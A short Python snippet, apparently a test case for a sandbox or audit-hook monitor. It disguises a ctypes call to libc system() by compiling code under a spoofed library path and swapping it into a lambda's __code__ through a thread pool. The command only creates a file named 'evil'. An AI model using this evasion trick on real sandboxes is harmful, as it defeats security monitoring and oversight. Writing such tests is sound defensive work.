# f.__code__ = … done by a library, with a code object nobody has marked.
# says: ctypes
import sys
from concurrent.futures import ThreadPoolExecutor
pool = ThreadPoolExecutor(1)
call = lambda function, *arguments, **keywords: pool.submit(function, *arguments, **keywords).result()
builtin = vars(sys.modules["builtins"])

text = "import ctypes; ctypes.CDLL(None).system(b'touch %s/evil')" % outside
code = call(builtin["compile"], text, "/usr/lib/python3/library.py", "exec")
function = lambda: 0
call(setattr, function, "__code__", code)
call(function)
